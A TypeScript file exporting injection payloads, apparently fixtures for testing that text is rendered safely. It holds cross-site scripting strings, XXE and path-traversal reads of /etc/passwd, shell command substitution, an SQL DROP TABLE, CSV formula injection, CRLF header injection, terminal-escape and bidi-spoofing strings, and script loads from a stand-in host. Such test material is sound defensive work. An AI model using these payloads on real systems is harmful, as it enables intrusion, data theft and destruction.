const run = 'window.__xss=1';

/**
 * What a text may try on those who read it as more than text, by whom it is meant for. What works, sets `__xss` in the
 * window, adds an `xss-mark`, opens a dialog or asks for something from elsewhere.
 */
export const payloads: Record<string, string> = {
  script: `<script>${run};alert(1)</script>`,
  'the end of a script': `</script><script>${run}</script>`,
  'the end of a script in two': `</scr</script>ipt><script/src=//elsewhere.example/a.js></script>`,
  'the end of whatever stands around': `</title></style></textarea></noscript></template>--><xss-mark></xss-mark>`,
  'the beginning of a comment': '<!--<script>',
  element: `<xss-mark></xss-mark><img src=//elsewhere.example/a.png onerror=${run}>`,
  'an attribute': `" autofocus onfocus=${run} x="' autofocus onfocus=${run} x='`,
  frame: `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe><object data=//elsewhere.example/></object>`,
  base: '<base href=//elsewhere.example/><meta http-equiv=refresh content="0;url=//elsewhere.example/">',
  form: '<form action=//elsewhere.example/><button>Save</button></form><a href=//elsewhere.example/ ping=//elsewhere.example/>',
  SVG: `<svg onload=${run}><script>${run}</script><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  MathML: `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  'an entity': `&lt;script&gt;${run}&lt;/script&gt; &#x3c;xss-mark&#62; &amp;lt;xss-mark&amp;gt;`,
  address: `javascript:${run} data:text/html,<script>${run}</script> //elsewhere.example/`,
  style: `}*{background:url(//elsewhere.example/a)}@import'//elsewhere.example/b';</style>`,
  'JSON-LD': `"}],"@type":"Thing","url":"//elsewhere.example/\\u003c/script>\\`,
  'a template': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  'a section of XML': `]]><xss-mark xmlns="http://www.w3.org/1999/xhtml"/><![CDATA[`,
  'an entity of XML':
    '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><?xml-stylesheet href="//elsewhere.example/"?>&e;',
  'an element of a feed': '</title></item></channel></rss><link>//elsewhere.example/</link>',
  Markdown: `[a](javascript:${run}) ![b](//elsewhere.example/b.png) \`\`\``,
  BibTeX: '}}, url = {//elsewhere.example/}, } @misc{b, title = {\\input{/etc/passwd}\\write18{id} % $',
  'a table': `=HYPERLINK("//elsewhere.example/") +1 -1 @SUM(1),"\t|cmd' /C calc'!A0`,
  'a terminal': '\u001b]0;pwned\u0007\u001b[2J\u001b[31m\u009b31m\u0008\u007f',
  'a workflow of GitHub': '::error::a%0A::set-output name=a::b ##[group]a',
  'a shell': '$(id) `id` ; id | id > ../../../../etc/passwd',
  SQL: `'); DROP TABLE stories; -- " OR NEAR(a b) * ^`,
  'a header': '%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a<xss-mark>',
  'a file': '../../../../etc/passwd%00.png ..\\..\\a C:\\a con.txt',
  'an object': '__proto__ constructor toString hasOwnProperty',
  'the eye': '\u202egnp.exe\u2066 \u2067\u2068\u200f\u061c\u2069\u202c \u200b\u2060\ufeff\u00ad',
  'a line': 'one\u2028two\u2029three\u0085four\u000bfive\u000csix',
  'a word without end': 'W'.repeat(600),
  'an Arabic word without end': '\ufdfd'.repeat(60),
  'stacked accents': `a${'\u0301\u0489'.repeat(200)}`,
  'a picture of letters': '👩‍👩‍👧‍👦🏴‍☠️🇮🇷🇷🇺'.repeat(12),
};
